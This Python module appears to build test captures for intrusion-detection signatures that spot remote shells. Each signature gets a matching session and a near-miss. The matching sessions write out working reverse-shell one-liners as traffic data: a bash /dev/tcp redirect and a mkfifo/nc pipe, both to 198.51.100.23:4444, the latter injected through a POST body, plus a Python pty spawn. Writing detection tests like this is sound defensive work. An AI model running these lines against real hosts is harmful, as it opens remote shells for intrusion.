"""Captures for signatures/shells.rules."""
from .registry import pair
from .talk import INSIDE, OUTSIDE, SERVER, request

BANNER = (b"Microsoft Windows [Version 10.0.19045.3693]\r\n"
          b"(c) Microsoft Corporation. All rights reserved.\r\n")


@pair(9000001, "a client sends the banner of cmd.exe and a prompt", "a client sends a text that quotes the banner")
def cmd_banner(talk, hit):
    tail = b"\r\nC:\\Windows\\system32>" if hit else b"\r\nThat is what it prints here, and then the window closes.\r\n"
    talk.exchange(INSIDE, 49201, OUTSIDE, 4444, BANNER + tail, (b"whoami\n",), b"demo\\alice\r\n")


@pair(9000002, "PowerShell prompts around a command", "one pasted prompt")
def powershell_prompt(talk, hit):
    first = b"PS C:\\Users\\alice> "
    lines = [first, (b"hostname\n",), b"workstation-7\r\n" + (first if hit else b"")]
    talk.exchange(INSIDE, 49202, OUTSIDE, 8081, *lines)


@pair(9000003, "the answer to the command id", "an LDAP-like text with the words uid, gid and groups")
def id_output(talk, hit):
    text = b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n" if hit else b"uid=alice gid=staff (all) groups=wheel,staff\n"
    talk.exchange(INSIDE, 49203, OUTSIDE, 9001, b"$ ", (b"id\n",), text)


@pair(9000004, "bash -i without a terminal, from the client", "the same text served to the client")
def bash_without_terminal(talk, hit):
    text = (b"bash: cannot set terminal process group (812): Inappropriate ioctl for device\n"
            b"bash: no job control in this shell\nwww-data@web:/$ ")
    lines = [text, (b"ls\n",)] if hit else [b"help\n", (text,)]
    talk.exchange(SERVER, 41004, OUTSIDE, 4444, *lines)


@pair(9000005, "the server types python -c 'import pty; ...'", "a Python file that spawns something else")
def python_pty(talk, hit):
    line = b"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n" if hit else b"import pty\n\npty.spawn(sys.argv[1:], reader)\n"
    talk.exchange(SERVER, 41005, OUTSIDE, 4444, b"$ ", (line,), b"www-data@web:/$ ")


@pair(9000006, "a command with a redirection to /dev/tcp/ADDRESS/PORT", "a manual that names /dev/tcp/host/port")
def dev_tcp(talk, hit):
    text = b"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n" if hit else b"redirect with <> /dev/tcp/host/port as bash(1) says\n"
    talk.exchange(OUTSIDE, 50006, SERVER, 8080, text, (b"ok\n",))


@pair(9000007, "mkfifo, cat, sh and nc in one line", "mkfifo and a shell, with a pipe to less")
def named_pipe(talk, hit):
    end = b"nc 198.51.100.23 4444 >/tmp/f\n" if hit else b"less\n"
    body = b"cmd=rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|" + end
    talk.exchange(OUTSIDE, 50007, SERVER, 8080, request("/run", "POST", body=body), (b"HTTP/1.1 204 No Content\r\n\r\n",))
